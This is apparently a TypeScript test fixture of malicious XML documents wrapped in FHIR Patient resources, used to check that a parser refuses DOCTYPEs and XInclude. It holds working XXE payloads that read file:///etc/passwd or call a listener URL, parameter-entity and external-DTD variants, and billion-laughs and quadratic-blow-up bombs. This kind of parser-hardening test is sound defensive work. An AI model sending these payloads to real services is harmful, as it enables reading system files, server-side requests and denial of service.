/** Documents that would have a careless reader of XML open files, ask others, or write out gigabytes. `{{url}}` is a listener's. */

/** What the answer would hold if a file had been read, or an entity put in. */
export const resolved = /root:|expanded/;

const patient = (inside: string) => `<Patient xmlns="http://hl7.org/fhir">${inside}</Patient>`;
const named = (value: string) => patient(`<name><text value="${value}"/></name>`);
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"';

export const documents: readonly (readonly [what: string, text: string, issue: string])[] = [
  [
    'an entity that is a file',
    `<!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>${patient('<language>&e;</language>')}`,
    'xml-doctype',
  ],
  [
    'an entity that is an address',
    `<!DOCTYPE p [<!ENTITY e SYSTEM "{{url}}/entity">]>${patient('<language>&e;</language>')}`,
    'xml-doctype',
  ],
  ['definitions elsewhere', `<!DOCTYPE Patient SYSTEM "{{url}}/patient.dtd">${patient('')}`, 'xml-doctype'],
  ['public definitions elsewhere', `<!DOCTYPE Patient PUBLIC "-//X//Y//EN" "{{url}}/public.dtd">${patient('')}`, 'xml-doctype'],
  [
    'parameter entities',
    `<!DOCTYPE p [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % more SYSTEM "{{url}}/more.dtd">%more;]>${patient('')}`,
    'xml-doctype',
  ],
  ['a billion laughs', `<!DOCTYPE p [<!ENTITY l0 "expanded">${laughs}]>${named('&l9;')}`, 'xml-doctype'],
  ['a quadratic blow-up', `<!DOCTYPE p [<!ENTITY a "${'expanded'.repeat(6000)}">]>${named('&a;'.repeat(50_000))}`, 'xml-doctype'],
  ['an entity in an attribute', `<!DOCTYPE p [<!ENTITY e "expanded">]>${named('&e;')}`, 'xml-doctype'],
  ['a DOCTYPE behind a comment', `<!-- a -->\n<!DOCTYPE p [<!ENTITY e "expanded">]>${named('&e;')}`, 'xml-doctype'],
  ['a DOCTYPE behind a byte order mark', `\ufeff<?xml version="1.0"?><!DOCTYPE p SYSTEM "{{url}}/bom">${patient('')}`, 'xml-doctype'],
  ['XInclude of a file', patient(`${include} href="file:///etc/passwd" parse="text"/>`), 'xml-namespace'],
  ['XInclude of an address', patient(`${include} href="{{url}}/include"/>`), 'xml-namespace'],
];
